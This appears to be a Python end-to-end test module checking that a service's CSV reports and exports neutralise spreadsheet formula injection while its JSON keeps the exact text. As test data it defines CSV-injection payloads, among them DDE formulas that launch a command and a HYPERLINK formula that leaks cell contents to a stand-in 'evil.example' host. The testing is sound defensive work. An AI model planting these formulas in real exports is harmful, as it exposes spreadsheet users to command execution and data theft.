"""Exports that would run formulas (issue 20, item 2): members put text that a spreadsheet runs as
a formula, beginning with each character OWASP names (`=`, `+`, `-`, `@`, tab, carriage return),
in front of everything of theirs an export carries as text: indicator names and categories,
proposal descriptions, vote reasons and revocation reasons. Every CSV the service writes (the
report and the five exports, from the API and from `commons export`) gives each such cell a
single quote in front, quoted, and every other cell as it was; the JSON keeps the exact text.

The module shares its chain with the other e2e modules: its indicators are its own, and the one
member it admits (to earn the badges) is removed again, so membership and the quorum are as
they were."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import pytest
from eth_utils import keccak

from tests.e2e.conftest import ALICE, BOB, CAROL, address, pass_proposal
from tests.e2e.test_cli import _in_process
from tests.e2e.test_fair_play import skip_to
from tests.e2e.test_reports import ALL_TIME, chain_day, fetch

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
# A formula for each leading character: OWASP's examples, and the issue's.
FORMULAS = {
    "=": "=cmd|' /C calc'!A0",
    "+": "+1+2",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+2",
    "\r": "\r=cmd|' /C calc'!A0",
}
HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&B2,"x")'
MEMBER = "0x" + keccak(text="tests/e2e/test_hostile_exports.py member").hex()
TABLES = ("report", "badges", "attestations", "indicator-versions", "proposals", "votes")
DIMENSIONS = ("member", "indicator", "category", "orientation")  # the report CSV's order


def description(c: str) -> str:
    return HYPERLINK if c == "=" else f"{FORMULAS[c]} (proposal)"


def reasons(c: str) -> tuple[str, str]:
    """Alice's and Bob's vote reasons."""
    return FORMULAS[c], f"{FORMULAS[c]} (Bob)"


def indicator_name(c: str) -> str:
    return f"{FORMULAS[c]} indicator"


def revoke_reason(c: str) -> str:
    return f"{FORMULAS[c]} (revoked)"


def carried(table: str, c: str) -> set[str]:
    """This module's texts beginning with `c` that a table carries."""
    indicator = {indicator_name(c), FORMULAS[c]}  # its name, and its category
    return {
        "report": indicator,
        "badges": indicator | {revoke_reason(c)},
        "attestations": {indicator_name(c)},
        "indicator-versions": indicator,
        "proposals": {description(c), *reasons(c)},
        "votes": set(reasons(c)),
    }[table]


def strings(document: Any) -> set[str]:
    """Every text in a JSON document, at any depth."""
    if isinstance(document, str):
        return {document}
    if isinstance(document, dict):
        document = list(document.values())
    if isinstance(document, list):
        return set().union(*(strings(v) for v in document))
    return set()


# Once per service: ape's isolation plugin may set module fixtures up again for each test of a
# parametrized package fixture (`env`), and the history must be made only once.
_MADE: dict[str, dict] = {}


@pytest.fixture(scope="module")
def hostile(env):
    if env.server.url not in _MADE:
        _MADE[env.server.url] = _hostile(env)
    return _MADE[env.server.url]


def _hostile(env) -> dict:
    """A proposal for each character (its description, its votes' reasons, and the indicator it
    adds: name and category), the first also admitting a member; a badge of each indicator for
    that member; then one proposal revoking them all (each reason a formula) and removing them."""
    api = env.api
    first_day = chain_day(env)
    proposals = []
    for i, c in enumerate(DANGEROUS):
        actions = [
            {
                "type": "add_indicator",
                "name": indicator_name(c),
                "category": FORMULAS[c],
                "description_uri": "https://example.org/hostile-exports",
                "orientation": "community",
                "weight": 1,
                "endorsements_required": 1,
            }
        ]
        if i == 0:
            actions.append({"type": "admit_member", "account": address(MEMBER)})
        proposals.append(
            api.act("proposals", ALICE, description=description(c), actions=actions)["created"]["proposal_id"]
        )
    env.anvil.skip(2)
    for c, proposal_id in zip(DANGEROUS, proposals):
        for voter, reason in zip((ALICE, BOB), reasons(c)):
            api.act("votes", voter, proposal_id=proposal_id, support="for", reason=reason)
    skip_to(env, max(api.get(f"/proposals/{p}")["vote_end"] for p in proposals) + 1)
    for proposal_id in proposals:
        api.execute(proposal_id)
    ids = {i["name"]: i["id"] for i in api.get("/indicators", limit=500)["items"]}
    badges = {}
    for c in DANGEROUS:
        claim = api.act(
            "claims",
            MEMBER,
            indicator_id=ids[indicator_name(c)],
            evidence_uri="https://example.org/hostile-exports/evidence",
        )["created"]["claim_id"]
        badges[c] = api.act("attestations", CAROL, claim_id=claim)["created"]["token_id"]
    pass_proposal(
        env,
        ALICE,
        f"{FORMULAS['@']} (revocations)",
        [{"type": "revoke_badge", "token_id": badges[c], "reason": revoke_reason(c)} for c in DANGEROUS]
        + [{"type": "remove_member", "account": address(MEMBER)}],
    )
    return {"period": {"from": first_day, "to": chain_day(env)}, "badges": badges}


def path_of(table: str) -> str:
    return "/reports" if table == "report" else f"/exports/{table}"


def json_rows(env, path: str, period: dict[str, str]) -> list[dict[str, Any]]:
    """The rows of a report or export read as JSON, as its CSV has them (the report's total row
    first, then its groups by dimension)."""
    document = json.loads(fetch(env, path, **period))
    if path != "/reports":
        return document["rows"]
    totals = document["totals"]
    return [
        {
            "dimension": "total",
            "key": "",
            "label": "all contributions",
            "badges": totals["badges"],
            "weight": totals["weight"],
            "revoked": totals["revoked"],
        },
        *({"dimension": d, **group} for d in DIMENSIONS for group in document["by"][d]),
    ]


def spreadsheet_safe(value: Any) -> str:
    """What a CSV cell must read, by OWASP's rule: text beginning with a dangerous character gets
    a single quote in front; numbers are numbers."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, int):
        return str(value)
    text = ";".join(value) if isinstance(value, list) else value
    return "'" + text if text.startswith(DANGEROUS) else text


def quoted(text: str) -> bytes:
    return ('"' + text.replace('"', '""') + '"').encode()


def check_csv(body: bytes, rows: list[dict[str, Any]]) -> None:
    """The CSV holds the JSON's rows, every text a spreadsheet would run neutralised (a quote in
    front, the field quoted) and nothing else changed."""
    header, *cells = list(csv.reader(io.StringIO(body.decode(), newline="")))
    assert cells == [[spreadsheet_safe(row[column]) for column in header] for row in rows]
    for row in rows:
        for column in header:
            value = row[column]
            if not isinstance(value, int):
                assert not spreadsheet_safe(value).startswith(DANGEROUS), (column, value)
            if isinstance(value, str) and value.startswith(DANGEROUS):
                assert quoted("'" + value) in body, (column, value)


@pytest.mark.parametrize("table", TABLES)
@pytest.mark.parametrize("span", ["the hostile days", "all time"])
def test_every_csv_neutralises_every_formula(env, hostile, table, span):
    period, path = hostile["period"] if span == "the hostile days" else ALL_TIME, path_of(table)
    rows = json_rows(env, path, period)
    # The table does carry text beginning with each of the characters.
    leading = {v[0] for row in rows for v in row.values() if isinstance(v, str) and v.startswith(DANGEROUS)}
    assert leading == set(DANGEROUS)
    check_csv(fetch(env, path, **period, format="csv"), rows)


@pytest.mark.parametrize("table", TABLES)
def test_json_keeps_the_exact_text(env, hostile, table):
    body = fetch(env, path_of(table), **hostile["period"])
    held = strings(json.loads(body))
    for c in DANGEROUS:
        assert carried(table, c) <= held
        # In the bytes as JSON writes any text: not one character altered, nothing in front.
        for text in carried(table, c):
            assert json.dumps(text, ensure_ascii=False).encode() in body
            assert json.dumps("'" + text, ensure_ascii=False).encode() not in body


@pytest.mark.parametrize("table", TABLES)
def test_the_command_line_writes_the_same_neutralised_csv(env, hostile, table, tmp_path):
    period, path = hostile["period"], path_of(table)
    target = tmp_path / f"{table}.csv"
    run = _in_process(
        ["export", table, "--from", period["from"], "--to", period["to"], "-o", str(target)],
        {"COMMONS_API": env.server.url},
    )
    assert run.returncode == 0, (run.stdout, run.stderr)
    body = target.read_bytes()
    assert body == fetch(env, path, **period, format="csv")
    check_csv(body, json_rows(env, path, period))
    # And as JSON, the exact text.
    run = _in_process(
        ["export", table, "--from", period["from"], "--to", period["to"], "--format", "json"],
        {"COMMONS_API": env.server.url},
    )
    assert run.returncode == 0, (run.stdout, run.stderr)
    assert run.stdout.encode() == fetch(env, path, **period)
    assert set().union(*(carried(table, c) for c in DANGEROUS)) <= strings(json.loads(run.stdout))
